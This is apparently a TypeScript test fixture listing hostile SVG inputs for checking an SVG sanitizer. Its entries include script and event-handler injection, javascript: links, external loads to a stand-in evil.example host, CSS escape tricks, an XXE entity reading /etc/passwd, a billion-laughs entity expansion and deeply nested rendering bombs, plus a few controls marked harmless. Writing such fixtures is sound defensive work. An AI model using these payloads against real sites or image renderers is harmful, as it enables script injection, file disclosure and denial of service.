import type { Attack } from './attack.ts'

const NAMES = 'xmlns="http://www.w3.org/2000/svg"'
const draw = (inside: string, more = '') => `<svg ${NAMES} ${more} viewBox="0 0 30 20">${inside}<path d="M0 0h9v9z"/></svg>`
const inEach = (inside: string, times: number) =>
  Array.from({ length: times }, (_, at) => `<g id="a${at}">${inside.replaceAll('#', `#a${at - 1}`)}</g>`).join('')

/** SVG drawings that run scripts, make requests, or take endless time to render. */
export const AS_DRAWINGS: readonly Attack[] = [
  ['a drawing with a script', draw('<script>alert(1)</script>')],
  ['a drawing with a script from elsewhere', draw('<script href="https://evil.example/a.js"/>')],
  ['a drawing with a script by another name', draw('<cc:script>alert(1)</cc:script>', 'xmlns:cc="http://www.w3.org/2000/svg"')],
  ['a drawing with a script of web pages', draw('<dc:script>alert(1)</dc:script>', 'xmlns:dc="http://www.w3.org/1999/xhtml"')],
  ['a drawing with a script of web pages in a group', draw('<g xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></g>')],
  ['a drawing that becomes a web page', '<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><style/></svg>'],
  ['a drawing with a handler', draw('', 'onload="alert(1)"')],
  ['a drawing with a handler in capitals', draw('<g ONCLICK="alert(1)"/>')],
  ['a drawing with a handler by another name', draw('<g ev:onclick="alert(1)"/>', 'xmlns:ev="http://www.w3.org/2001/xml-events"')],
  ['a drawing that holds a web page', draw('<foreignObject width="9" height="9"><p>x</p></foreignObject>')],
  ['a drawing that holds a web page by another name', draw('<cc:foreignObject/>', 'xmlns:cc="http://www.w3.org/2000/svg"')],
  ['a drawing with a link', draw('<a href="javascript:alert(1)"><path d="M0 0h9"/></a>')],
  ['a drawing whose movement sets a script', draw('<set attributeName="href" to="javascript:alert(1)"/>')],
  ['a drawing that moves', draw('<animate attributeName="href" values="javascript:alert(1)"/>')],
  ['a drawing with a picture from elsewhere', draw('<image href="https://evil.example/pixel.gif" width="9" height="9"/>')],
  ['a drawing with a picture that is data', draw('<image href="data:image/svg+xml,x" width="9" height="9"/>')],
  ['a drawing with a picture in a filter', draw('<filter id="f"><feImage href="https://evil.example/a.png"/></filter>')],
  ['a drawing that uses another file', draw('<use href="https://evil.example/a.svg#b"/>')],
  ['a drawing that uses another file of the site', draw('<use href="/pictures/a.svg#b"/>')],
  [
    'a drawing that uses another file by an old name',
    draw('<use xlink:href="https://evil.example/a.svg#b"/>', 'xmlns:xlink="http://www.w3.org/1999/xlink"'),
  ],
  [
    'a drawing that uses another file by a false name',
    draw('<use cc:href="https://evil.example/a.svg#b"/>', 'xmlns:cc="http://www.w3.org/1999/xlink"'),
  ],
  ['a drawing that uses data', draw('<use href="data:image/svg+xml,x#b"/>')],
  ['a drawing with another base', draw('<use href="#b"/>', 'xml:base="https://evil.example/"')],
  ['a drawing whose style asks elsewhere', draw('<style>@import "https://evil.example/a.css";</style>')],
  ['a drawing whose style asks behind an escape', draw('<style>@\\69mport "https://evil.example/a.css";</style>')],
  ['a drawing whose style loads a font', draw('<style>@font-face{font-family:x;src:local(x)}</style>')],
  ['a drawing whose style loads a set', draw('<style>svg{background:image-set("https://evil.example/a.png" 1x)}</style>')],
  ['a drawing whose style is kept as it is', draw('<style><![CDATA[path{fill:url(https://evil.example/a#b)}]]></style>')],
  ['a drawing that is filled from elsewhere', draw('<path fill="url(https://evil.example/a.svg#b)" d="M0 0h9"/>')],
  ['a drawing that is filled from elsewhere behind an escape', draw('<path fill="u\\72l(https://evil.example/a.svg#b)" d="M0 0h9"/>')],
  ['a drawing that is filled from elsewhere with an entity', draw('<path fill="&#117;rl(https://evil.example/a.svg#b)" d="M0 0h9"/>')],
  ['a drawing with a style of its own from elsewhere', draw('<path style="background:url(//evil.example/a)" d="M0 0h9"/>')],
  ['a drawing that is moved by a terminal’s escape', draw('<path transform="matrix(\u001b[2J \u202e1)" d="M0 0h9"/>')],
  ['a drawing with a stylesheet', `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/a.css"?>${draw('')}`],
  ['a drawing that begins with a stylesheet', `<?xml-stylesheet type="text/xsl" href="/a.xsl"?>${draw('')}`],
  ['a drawing with a stylesheet within', draw('<?xml-stylesheet href="https://evil.example/a.css"?>')],
  ['a drawing that reads a file of the machine', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${draw('<text>&x;</text>')}`],
  ['a drawing with words that stand for others', `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "https://evil.example/a.dtd">${draw('')}`],
  [
    'a drawing with words that stand for a thousand million',
    `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${draw('<text>&c;</text>')}`,
  ],
  ['a drawing with a frame', draw('<iframe src="https://evil.example"/>')],
  ['a drawing with a film', draw('<video src="https://evil.example/a.mp4"/>')],
  ['a drawing that draws itself', draw('<g id="a"><use href="#a"/></g>')],
  ['a drawing of ten thousand million parts', draw(inEach('<use href="#"/>'.repeat(10), 11).replaceAll('#a-1', '#none'))],
  [
    'a drawing of patterns of patterns',
    draw(
      Array.from(
        { length: 30 },
        (_, at) => `<pattern id="p${at}" width="1" height="1">${`<path fill="url(#p${at - 1})" d="M0 0h1"/>`.repeat(4)}</pattern>`,
      ).join(''),
    ),
  ],
  ['a drawing a hundred thousand groups deep', () => draw('<g>'.repeat(100_000) + '</g>'.repeat(100_000))],
  ['a drawing whose groups never end', () => draw('<g a="/>">'.repeat(50_000))],
  ['a drawing of two million bytes', () => draw(`<path d="M0 0${'h1v1'.repeat(500_000)}"/>`)],
  ['a drawing a thousand million pixels wide', `<svg ${NAMES} viewBox="0 0 1e9 1e9"><path d="M0 0h9"/></svg>`],
  ['a drawing as thin as a hair', `<svg ${NAMES} viewBox="0 0 1 9000"><path d="M0 0h9"/></svg>`],
  ['a drawing that says it is larger than it is', `<svg ${NAMES} width="999999999" viewBox="0 0 9 9"><path d="M0 0h9"/></svg>`],
  ['a drawing behind a web page', `<!doctype html><script>alert(1)</script>${draw('')}`],
  [
    'a drawing with what a drawing program left',
    draw(
      '<inkscape:page id="x"/><cc:Work cc:about="https://evil.example"/>',
      'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:cc="http://creativecommons.org/ns#"',
    ),
    'harmless',
  ],
  ['a drawing with a comment that is a script', draw('<!-- <script>alert(1)</script> -->'), 'harmless'],
  ['a drawing whose title is a script in words', draw('<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>'), 'harmless'],
  ['a drawing with a script in words', draw('<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>'), 'harmless'],
  ['a drawing whose id ends an attribute', draw('<g id="a&quot; onload=&quot;alert(1)"><path d="M0 0h9"/></g>'), 'harmless'],
]
